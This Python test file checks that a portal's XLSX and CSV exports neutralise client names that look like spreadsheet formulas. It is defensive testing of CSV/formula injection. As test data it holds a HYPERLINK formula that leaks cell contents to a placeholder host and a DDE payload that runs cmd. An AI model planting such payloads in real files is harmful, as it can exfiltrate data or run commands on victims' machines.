"""Exports of text a portal user typed: a client named like a formula stays text in the XLSX and the CSV."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from tests.unit.placements.test_ui_views import add_plan

FORMULA = '=HYPERLINK("http://x"&A1,"Click")'


def _formula_plans(fake) -> None:
    fake.companies[5] = FORMULA
    fake.companies[6] = "@SUM(1+1)*cmd|' /C calc'!A0"
    add_plan(fake)
    add_plan(fake, 2, title="x", companyId=6, opportunity=300, currencyId="USD", ufCrm5Executed=-5,
             ufCrm5Remainder=305, ufCrm5Execution=0, ufCrm5Probable=150)


def test_a_formula_named_client_is_text_in_the_xlsx(frame, fake):
    _formula_plans(fake)
    data = frame.client.get(f"/plans/export.xlsx?_s={frame.s}&sort=amount&dir=desc").data
    sheet = load_workbook(io.BytesIO(data)).active
    names = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in (2, 3)}
    assert set(names) == {FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(cell.data_type == "s" for cell in names.values())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    won = sheet.cell(row=3, column=8)  # Globex's won amount, negative: still a number
    assert won.data_type == "n" and won.value == -5


def test_a_formula_named_client_is_neutralised_in_the_csv_but_numbers_stay_numbers(frame, fake):
    _formula_plans(fake)
    raw = frame.client.get(f"/plans/export.csv?_s={frame.s}&sort=amount&dir=desc").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == "'" + FORMULA and rows[2][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[2][7] == "-5,00"  # a negative amount in a number column is left as the number it is


def test_csv_cells_neutralise_every_formula_prefix():
    from placements.export import csv_text

    for value in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_text(value) == "'" + value
    for value in ("Acme", "", "1-2", "a=b"):
        assert csv_text(value) == value
